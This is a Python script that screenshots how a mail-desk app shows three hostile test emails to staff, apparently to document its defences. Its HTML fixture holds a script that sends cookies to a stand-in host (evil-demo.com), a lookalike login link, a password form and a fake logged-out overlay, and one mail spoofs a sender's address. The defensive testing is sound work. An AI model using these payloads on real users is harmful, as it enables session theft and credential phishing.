"""Draw what staff see of three hostile mails: ``python docs/security_pictures.py`` writes docs/security_*.png.

A lookalike domain with an address of ours hidden in its name, a mail whose HTML tries everything, and a form that asks
for a domain more than its mail.  Needs what docs/desk_pictures.py needs.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import tempfile
import threading
from pathlib import Path

import uvicorn
from playwright.sync_api import Page, sync_playwright

from docs.desk_pictures import CAME, ROOT, furnished
from processor.desk.app import build
from processor.desk.asking import Desk
from processor.desk.demo_users import DEMO_USERS
from processor.desk.door import listen
from processor.loading.rules import load_rulebook
from processor.steps.work_off import work_off
from processor.store.keep import Arrival, keep
from processor.world.confined import Confined

HTML = """<h2>Oppsigelse</h2><p onclick="steal()">Vi sier opp <b>Visma Global</b>. Org.nr 974760673.</p>
<script>fetch('https://evil-demo.com/'+document.cookie)</script><img src="https://evil-demo.com/pixel.gif">
<p><a href="https://visma.no.evil-demo.com/login">https://visma.no/login</a> <a href="javascript:steal()">Se avtalen</a></p>
<form action="https://evil-demo.com"><input name="password" placeholder="Passord"></form>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Du er logget ut</div>"""
HOSTILE = {
    "lookalike": b"From: \"Kari Holm <kari@fjordbygg-demo.no>\" <kari@fjordbygg-dem0.com>\r\nSubject: Oppsigelse av Visma Global\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n\r\nHei,\r\n\r\nVi sier opp Visma Global fra 31.12.2026. Org.nr 328627035.\r\n"
    b"Send bekreftelsen til en ny adresse: regnskap@evil-demo.com\r\n\r\nKari Holm\r\nFjord Bygg AS\r\n",
    "html": b"From: Per <per@evil-demo.com>\r\nSubject: Oppsigelse\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + HTML.encode(),
    "form": (ROOT / "tests" / "hostile" / "T24-form-and-mail-name-other-domains.eml").read_bytes(),
}  # fmt: skip
SERVER = b"Received: from mail.example by mx.kundesenter.example; Tue, 18 Aug 2026 10:02:00 +0200\r\n"
HEAD = SERVER + b"To: oppsigelse@visma.no\r\nDate: Tue, 18 Aug 2026 10:01:00 +0200\r\nMIME-Version: 1.0\r\n"


def main() -> None:
    """Take the three mails in beside the demo's, and look at each as staff do."""
    with tempfile.TemporaryDirectory() as folder:
        desk = furnished(Path(folder))
        numbers = taken_in(desk)
        listening = listen(("127.0.0.1", 0))
        server = uvicorn.Server(uvicorn.Config(build(desk), ws="none", lifespan="off", log_config=None))
        thread = threading.Thread(target=lambda: asyncio.run(server.serve(sockets=[listening])))
        thread.start()
        with sync_playwright() as play:
            chromium = shutil.which("chromium") or shutil.which("chromium-browser")
            arguments = ["--no-sandbox"] if os.geteuid() == 0 else []
            browser = play.chromium.launch(executable_path=chromium, args=arguments)
            page = browser.new_context(
                viewport={"width": 1280, "height": 820},
                locale="en-GB",
                base_url=f"http://127.0.0.1:{listening.getsockname()[1]}",
            ).new_page()
            page.goto("/")
            page.get_by_role("button", name=DEMO_USERS[0][0]).click()
            page.wait_for_url(lambda url: "sign-in" not in url)
            for name, number in numbers.items():
                look(page, name, number)
            browser.close()
        server.should_exit = True
        thread.join()
        desk.engine.dispose()


def taken_in(desk: Desk) -> dict[str, str]:
    """The tickets of the three, by name."""
    config, files, found = desk.config, Confined(), {}
    rulebook = load_rulebook(config.rules_dir, config.templates_dir, config.own_addresses)
    for uid, (name, mail) in enumerate(HOSTILE.items(), 900):
        raw = mail if name == "form" else HEAD + b"Message-ID: <%d@evil-demo.com>\r\n" % uid + mail
        keep(desk.engine, [Arrival(config.mailboxes[0].name, "INBOX", 7, uid, CAME, len(raw), raw)], CAME)
        _, decided = work_off(desk.engine, rulebook, config, "pictures", lambda: CAME, files.extract)
        found[name] = decided[0].recorded.ticket_no
    files.close()
    return found


def look(page: Page, name: str, number: str) -> None:
    page.goto(f"/ticket/{number}")
    if name == "html" and page.get_by_role("tab", name="HTML").count():
        page.get_by_role("tab", name="HTML").click()
    page.wait_for_timeout(300)
    page.screenshot(path=ROOT / "docs" / f"security_{name}.png")


if __name__ == "__main__":
    main()
